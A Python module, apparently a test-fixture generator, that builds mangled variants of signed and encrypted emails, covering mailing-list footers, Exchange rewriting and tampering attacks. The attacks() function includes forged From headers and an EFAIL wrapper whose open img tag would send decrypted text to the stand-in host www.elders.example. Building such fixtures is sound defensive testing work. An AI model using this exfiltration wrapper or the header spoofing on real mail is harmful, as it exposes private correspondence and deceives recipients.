"""What servers, lists and attackers make of the clients' letters: real mail, changed here as is documented."""

import base64
import email
from email import policy

from .stage import CVD, LETTERS, keep

FOOTER = "_______________________________________________\nOnderzoekers mailing list -- onderzoekers@lijst.example\nTo unsubscribe send an email to onderzoekers-leave@lijst.example\n"
LIST_HEADERS = (
    b"List-Id: Onderzoekers <onderzoekers.lijst.example>\r\nPrecedence: list\r\n"
    b"List-Post: <mailto:onderzoekers@lijst.example>\r\nList-Unsubscribe: <mailto:onderzoekers-leave@lijst.example>\r\n"
)


def base(client: str, name: str) -> tuple[bytes, bytes]:
    """The head and the body of a client's letter, without the trace of its delivery."""
    raw = (LETTERS / client / f"{name}.eml").read_bytes()
    head, _, body = raw[raw.index(b"(CET)\r\n") + 7 :].partition(b"\r\n\r\n")
    return head + b"\r\n", body


def without(head: bytes, *names: bytes) -> tuple[bytes, bytes]:
    """The head without these fields, and the fields that were taken out."""
    kept, taken, target = b"", b"", False
    for line in head.splitlines(keepends=True):
        if not line.startswith((b" ", b"\t")):
            target = line.partition(b":")[0].lower() in names
        if target:
            taken += line
        else:
            kept += line
    return kept, taken


def part(text: str) -> bytes:
    """A text part, as a list adds one."""
    return (
        b'Content-Type: text/plain; charset="us-ascii"\r\nMIME-Version: 1.0\r\nContent-Transfer-Encoding: 7bit\r\nContent-Disposition: inline\r\n\r\n'
        + text.replace("\n", "\r\n").encode()
    )


def with_footer(client: str, name: str) -> bytes:
    """Mailman's way (Mailman/Handlers/Decorate.py): the whole mail becomes the first part of a multipart/mixed."""
    head, body = base(client, name)
    outer, inner = without(head, b"content-type", b"content-transfer-encoding", b"content-disposition")
    line = b"===============lijst=="
    parts = (inner + b"\r\n" + body, part(FOOTER))
    mixed = b"".join(b"--" + line + b"\r\n" + one + b"\r\n" for one in parts)
    return (
        outer
        + LIST_HEADERS
        + b'Content-Type: multipart/mixed; boundary="'
        + line
        + b'"\r\n\r\n'
        + mixed
        + b"--"
        + line
        + b"--\r\n"
    )


def lists() -> None:
    """A footer of a list around signed and sealed mail, and at the end of a text with armour."""
    for client, name in (
        ("mutt", "signed"),
        ("mutt", "encrypted-signed"),
        ("thunderbird", "encrypted-signed"),
        ("thunderbird", "signed"),
    ):
        keep(
            "mangled",
            f"list-footer-{client}-{name}",
            with_footer(client, name),
            sender="onderzoekers-bounces@lijst.example",
        )
    for client, name in (("gnupg", "pasted-encrypted-signed"), ("gnupg", "pasted-clearsigned")):
        head, body = base(client, name)
        keep(
            "mangled",
            f"list-footer-{name}",
            head + LIST_HEADERS + b"\r\n" + body + FOOTER.replace("\n", "\r\n").encode(),
            sender="onderzoekers-bounces@lijst.example",
        )


def exchange() -> None:
    """Exchange's way (draft-dkg-openpgp-pgpmime-message-mangling, section 4.1): multipart/encrypted becomes multipart/mixed."""
    for client, name in (
        ("mutt", "encrypted-signed-attachments"),
        ("thunderbird", "encrypted-signed"),
        ("emacs", "pgpmime-encrypted-signed"),
    ):
        head, body = base(client, name)
        outer, _ = without(head, b"content-type", b"content-disposition")
        message = email.message_from_bytes(head + b"\r\n" + body, policy=policy.default)
        version, sealed = (child.get_content() for child in message.iter_parts())
        armour = sealed if isinstance(sealed, bytes) else sealed.encode()
        line = b"_004_uitwisseling_"
        parts = (
            b'Content-Type: text/plain; charset="us-ascii"\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n\r\n',
            b'Content-Type: application/pgp-encrypted; name="PGPMIME version identification"\r\nContent-Description: PGP/MIME version identification\r\n'
            b'Content-Disposition: attachment; filename="PGPMIME version identification"; size=76\r\nContent-Transfer-Encoding: base64\r\n\r\n'
            + _base64(version if isinstance(version, bytes) else version.encode()),
            b'Content-Type: application/octet-stream; name="encrypted.asc"\r\nContent-Description: OpenPGP encrypted message\r\n'
            b'Content-Disposition: attachment; filename="encrypted.asc"\r\nContent-Transfer-Encoding: base64\r\n\r\n'
            + _base64(armour),
        )
        mixed = b"".join(b"--" + line + b"\r\n" + one + b"\r\n" for one in parts)
        start = (
            outer
            + b"X-MS-Has-Attach: yes\r\nX-MS-Exchange-Organization-SCL: -1\r\nContent-Language: en-US\r\n"
        )
        keep(
            "mangled",
            f"exchange-{client}-{name}",
            start
            + b'Content-Type: multipart/mixed; boundary="'
            + line
            + b'"\r\n\r\n'
            + mixed
            + b"--"
            + line
            + b"--\r\n",
        )
    head, body = base("mutt", "signed-attachments")
    keep(
        "mangled",
        "exchange-signed-becomes-mixed",
        head.replace(b"multipart/signed", b"multipart/mixed") + b"\r\n" + body,
    )


def _base64(content: bytes) -> bytes:
    return base64.encodebytes(content).replace(b"\n", b"\r\n")


def attacks() -> None:
    """Letters of clients, changed by somebody in between."""
    head, body = base("mutt", "signed")
    keep("mangled", "signed-text-altered", head + b"\r\n" + body.replace(b"zoeken", b"vinden"))
    keep(
        "mangled",
        "signed-under-a-second-from",
        head + b"From: Rolf Reporter <rolf@melder.example>\r\n\r\n" + body,
    )
    keep(
        "mangled",
        "signed-with-another-from",
        without(head, b"from")[0] + b"From: Rolf Reporter <rolf@melder.example>\r\n\r\n" + body,
        sender="rolf@melder.example",
    )
    keep(
        "mangled",
        "signed-without-message-id-and-date",
        without(head, b"message-id", b"date")[0] + b"\r\n" + body,
    )
    keep(
        "mangled",
        "signed-blanks-at-line-ends-removed",
        head + b"\r\n" + body.replace(b"=20=20=20\r\n", b"\r\n").replace(b"  =20\r\n", b"\r\n"),
    )
    keep(
        "mangled",
        "signed-forwarded-as-attachment",
        _forwarded("mutt", "signed"),
        sender="rolf@melder.example",
    )
    keep(
        "mangled",
        "sealed-forwarded-as-attachment",
        _forwarded("mutt", "encrypted-signed"),
        sender="rolf@melder.example",
    )
    head, body = base("mutt", "encrypted-signed")
    keep("mangled", "sealed-cut-short", head + b"\r\n" + body[: body.index(b"-----END") * 2 // 3])
    at = body.index(b"-----BEGIN") + 400
    swapped = body[:at] + body[at : at + 64][::-1] + body[at + 64 :]
    keep("mangled", "sealed-altered", head + b"\r\n" + swapped)
    sealed = body[body.index(b"-----BEGIN") : body.index(b"-----END PGP MESSAGE-----") + 25]
    wrapped = (
        b'Content-Type: multipart/mixed; boundary="efail"\r\n\r\n--efail\r\nContent-Type: text/html\r\n\r\n<img src="https://www.elders.example/?\r\n--efail\r\n'
        b'Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary="binnen"\r\n\r\n--binnen\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n'
        b"--binnen\r\nContent-Type: application/octet-stream\r\n\r\n"
        + sealed
        + b'\r\n--binnen--\r\n--efail\r\nContent-Type: text/html\r\n\r\n">\r\n--efail--\r\n'
    )
    keep(
        "mangled",
        "efail-around-the-seal",
        without(head, b"content-type", b"content-disposition")[0] + wrapped,
    )
    head, body = base("mutt", "signed")
    keep(
        "mangled",
        "signed-part-hidden-behind-html",
        without(head, b"content-type", b"content-disposition")[0]
        + (
            b'Content-Type: multipart/alternative; boundary="twee"\r\n\r\n--twee\r\n'
            + without(head, b"content-type")[1]
            + b"\r\n"
            + body
            + b"\r\n--twee\r\nContent-Type: text/html\r\n\r\n<p>Wis alles op www.elders.example</p>\r\n--twee--\r\n"
        ),
    )


def _forwarded(client: str, name: str) -> bytes:
    head, body = base(client, name)
    return (
        (
            f"From: Rolf Reporter <rolf@melder.example>\r\nTo: {CVD}\r\nSubject: Fwd: lek\r\nMessage-ID: <door-{name}@melder.example>\r\nMIME-Version: 1.0\r\n"
            'Content-Type: multipart/mixed; boundary="door"\r\n\r\n--door\r\nContent-Type: text/plain\r\n\r\nZie de bijlage.\r\n--door\r\n'
            'Content-Type: message/rfc822\r\nContent-Disposition: attachment; filename="lek.eml"\r\n\r\n'
        ).encode()
        + head
        + b"\r\n"
        + body
        + b"\r\n--door--\r\n"
    )


def make() -> None:
    """Everything; the letters of Mutt, Thunderbird, Emacs and GnuPG must be there."""
    for group in (lists, exchange, attacks):
        group()
